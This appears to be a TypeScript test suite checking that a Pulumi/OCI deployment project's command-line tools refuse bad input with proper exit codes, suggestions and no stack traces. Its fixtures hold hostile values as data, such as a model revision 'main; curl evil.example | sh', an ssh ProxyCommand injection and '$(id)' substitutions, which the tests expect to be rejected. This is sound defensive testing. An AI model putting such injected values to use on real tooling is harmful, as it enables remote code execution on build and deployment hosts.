// Every command-line tool given garbage or hostile input, run as a process: it exits 1 (invalid
// input) or 2 (usage) as cli/args.ts defines, prints one message and never a stack trace, and shows
// a hostile value quoted rather than acting on it; a misspelt option or task gets the one meant. The
// runs start together in `before`. Then each command's --help, which ends with the shared exit codes.

import assert from "node:assert/strict";
import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { before, describe, test } from "node:test";

import { exitCodeHelp, UsageError } from "../cli/args";
import { OCI_TASKS, parseOciTask } from "../cli/oci-task";
import { type CliRun, runCli } from "./support/run-cli";
import { scratchDir } from "./support/scratch";
import { COMPARTMENT_ID, TENANCY_ID } from "./support/stack-fixtures";

const SCRATCH = scratchDir("cli-input-");
const HOSTILE_STACK = `config:
  oci:region: us-ashburm-1
  triton-trtllm-oci:compartmentId: ${COMPARTMENT_ID}
  triton-trtllm-oci:tenancyId: ${TENANCY_ID}
  triton-trtllm-oci:model:
    revision: "main; curl evil.example | sh"
  triton-trtllm-oci:image:
    source: "nvcr.io/nvidia/tritonserver:24.01-py3"
  triton-trtllm-oci:docker:
    host: "ssh://-oProxyCommand=id@host"
`;
const UNCATALOGUED_IMAGE_STACK = `config:
  oci:region: us-ashburn-1
  triton-trtllm-oci:compartmentId: ${COMPARTMENT_ID}
  triton-trtllm-oci:tenancyId: ${TENANCY_ID}
  triton-trtllm-oci:image:
    source: "nvcr.io/nvidia/tritonserver:24.01-trtllm-python-py3"
`;

interface Case {
  readonly name: string;
  readonly script: string;
  readonly args: readonly string[];
  readonly code: 1 | 2;
  /** What the one message must say. */
  readonly says: RegExp;
}

const CASES: readonly Case[] = [
  {
    name: "check: unknown option",
    script: "cli/check.ts",
    args: ["--bogus"],
    code: 2,
    says: /unknown option --bogus; the options are /,
  },
  {
    name: "check: a stack name with a space gets the name meant",
    script: "cli/check.ts",
    args: ["--stack", "my stack", "--dir", SCRATCH],
    code: 2,
    says: /"my stack" is not a Pulumi stack name.*did you mean "my-stack"\?/,
  },
  {
    name: "check: a stack name that is a command substitution",
    script: "cli/check.ts",
    args: ["--stack", "$(id)", "--dir", SCRATCH],
    code: 2,
    says: /"\$\(id\)" is not a Pulumi stack name/,
  },
  {
    name: "check: a stack file that is not YAML",
    script: "cli/check.ts",
    args: ["--stack", "garbage", "--dir", SCRATCH],
    code: 1,
    says: /Pulumi\.garbage\.yaml/,
  },
  {
    name: "check: hostile values are refused by key, shown JSON-quoted",
    script: "cli/check.ts",
    args: ["--stack", "hostile", "--dir", SCRATCH],
    code: 1,
    says: /model\.revision = "main; curl evil\.example \| sh"/,
  },
  {
    name: "render: an uncatalogued serving image",
    script: "cli/render.ts",
    args: ["--stack", "image", "--dir", SCRATCH, "--out", path.join(SCRATCH, "out")],
    code: 1,
    says: /image\.source = "nvcr\.io\/nvidia\/tritonserver:24\.01-trtllm-python-py3"/,
  },
  {
    name: "render: a stack name with a space",
    script: "cli/render.ts",
    args: ["--stack", "my stack", "--dir", SCRATCH, "--out", SCRATCH],
    code: 2,
    says: /not a Pulumi stack name/,
  },
  {
    name: "package-artifact: a folder that does not exist",
    script: "cli/package-artifact.ts",
    args: [path.join(SCRATCH, "nowhere"), path.join(SCRATCH, "o.zip")],
    code: 1,
    says: /does not exist/,
  },
  {
    name: "package-artifact: a stray argument is quoted",
    script: "cli/package-artifact.ts",
    args: ["a", "b", "$(id)"],
    code: 2,
    says: /expected 2 argument/,
  },
  {
    name: "pr-comment: a check.json that is not JSON",
    script: "cli/pr-comment.ts",
    args: ["--dir", path.join(SCRATCH, "previews")],
    code: 1,
    says: /is not JSON/,
  },
  {
    name: "pr-comment: unknown option",
    script: "cli/pr-comment.ts",
    args: ["--bogus"],
    code: 2,
    says: /unknown option --bogus; the options are /,
  },
  {
    name: "invoke: unknown option",
    script: "cli/invoke.ts",
    args: ["--bogus"],
    code: 2,
    says: /unknown option --bogus; the options are /,
  },
  {
    name: "invoke: a stack name with a space",
    script: "cli/invoke.ts",
    args: ["--stack", "my stack", "hello"],
    code: 2,
    says: /not a Pulumi stack name/,
  },
  {
    name: "evaluate: a stack name that is a command substitution",
    script: "cli/evaluate.ts",
    args: ["--stack", "$(id)"],
    code: 2,
    says: /not a Pulumi stack name/,
  },
  {
    name: "reap: unknown option",
    script: "cli/reap.ts",
    args: ["--bogus"],
    code: 2,
    says: /unknown option --bogus; the options are /,
  },
  {
    name: "check: a misspelt option gets the option meant",
    script: "cli/check.ts",
    args: ["--stak", "dev"],
    code: 2,
    says: /^check: unknown option --stak; did you mean --stack\?$/m,
  },
  {
    name: "evaluate: a misspelt option gets the option meant",
    script: "cli/evaluate.ts",
    args: ["--stack", "dev", "--concurency", "2"],
    code: 2,
    says: /^unknown option --concurency; did you mean --concurrency\?$/m,
  },
  {
    name: "oci-task: a misspelt task gets the task meant",
    script: "cli/oci-task.ts",
    args: ["terminate-instnce", "--region", "us-ashburn-1"],
    code: 2,
    says: /unknown task 'terminate-instnce'; did you mean terminate-instance\?/,
  },
  {
    name: "oci-task: a misspelt option gets the option meant",
    script: "cli/oci-task.ts",
    args: ["terminate-instance", "--instance-ids", "x", "--region", "us-ashburn-1"],
    code: 2,
    says: /unknown option --instance-ids; did you mean --instance-id\?/,
  },
  {
    name: "oci-task: unknown task",
    script: "cli/oci-task.ts",
    args: ["bogus", "--region", "us-ashburn-1"],
    code: 2,
    says: /bogus/,
  },
  {
    name: "oci-task: a byte count that is not a number",
    script: "cli/oci-task.ts",
    args: ["verify-model-artifact", "--model-id", "x", "--bytes", "$(id)", "--region", "us-ashburn-1"],
    code: 2,
    says: /--bytes/,
  },
];

describe("command-line tools on bad input", { timeout: 180_000 }, () => {
  const runs = new Map<string, CliRun>();
  before(async () => {
    writeFileSync(path.join(SCRATCH, "Pulumi.garbage.yaml"), "config: [unclosed\n\t- {");
    writeFileSync(path.join(SCRATCH, "Pulumi.hostile.yaml"), HOSTILE_STACK);
    writeFileSync(path.join(SCRATCH, "Pulumi.image.yaml"), UNCATALOGUED_IMAGE_STACK);
    mkdirSync(path.join(SCRATCH, "previews", "dev"), { recursive: true });
    writeFileSync(path.join(SCRATCH, "previews", "dev", "check.json"), "{not json");
    const results = await Promise.all(CASES.map((c) => runCli(c.script, c.args)));
    CASES.forEach((c, i) => runs.set(c.name, results[i]));
  });

  for (const c of CASES) {
    test(c.name, () => {
      const run = runs.get(c.name);
      assert.ok(run);
      const printed = `${run.stdout}${run.stderr}`;
      assert.equal(run.code, c.code, printed);
      assert.match(printed, c.says);
      assert.ok(!/^\s+at .+:\d+:\d+\)?$/m.test(printed), `a stack trace was printed:\n${printed}`);
    });
  }

  test("check lists every hostile value of a stack file at once, each under its key", () => {
    const printed = runs.get("check: hostile values are refused by key, shown JSON-quoted")?.stderr ?? "";
    for (const key of ["oci:region", "model.revision", "docker.host"]) {
      assert.match(printed, new RegExp(`^error: ${key.replace(".", "\\.")} = "`, "m"), printed);
    }
    assert.match(printed, /did you mean "us-ashburn-1"/);
  });
});

// Found in a newcomer run: each command printed its own exit codes, and oci-task none. Every
// command's --help ends with the one table cli/args.ts holds, and exits 0.
describe("every command's --help shows the one exit-code table", { timeout: 180_000 }, () => {
  const scripts = readdirSync(path.join(__dirname, "..", "cli"))
    .filter((name) => name.endsWith(".ts") && name !== "args.ts")
    .map((name) => `cli/${name}`)
    .sort();
  const runs = new Map<string, CliRun>();
  before(async () => {
    const results = await Promise.all(scripts.map((script) => runCli(script, ["--help"])));
    scripts.forEach((script, i) => runs.set(script, results[i]));
  });

  test("every command of cli/ is run, oci-task included", () => {
    assert.ok(scripts.includes("cli/oci-task.ts") && scripts.includes("cli/check.ts"), scripts.join(", "));
    assert.ok(scripts.length >= 8, scripts.join(", "));
  });

  test("each prints help ending with the table, exit 0, and no exit list of its own", () => {
    for (const script of scripts) {
      const run = runs.get(script);
      assert.ok(run);
      assert.equal(run.code, 0, `${script}: ${run.stderr}`);
      assert.ok(run.stdout.trimEnd().endsWith(exitCodeHelp()), `${script}:\n${run.stdout}`);
      const own = run.stdout.replace(exitCodeHelp(), "");
      assert.doesNotMatch(own, /^\s*(exit|Exit codes)\b.*\b2\b/m, script);
    }
  });
});

describe("oci-task's task names", () => {
  test("every task the suggestion knows is one the parser runs", () => {
    for (const task of OCI_TASKS) {
      // With only --region, a known task parses or misses an option of its own, never its name.
      try {
        parseOciTask([task, "--region", "us-ashburn-1"]);
      } catch (error) {
        assert.ok(error instanceof UsageError, task);
        assert.doesNotMatch(error.message, /unknown task/, task);
      }
    }
    assert.throws(() => parseOciTask(["no-such-task", "--region", "r"]), /unknown task 'no-such-task'/);
  });
});
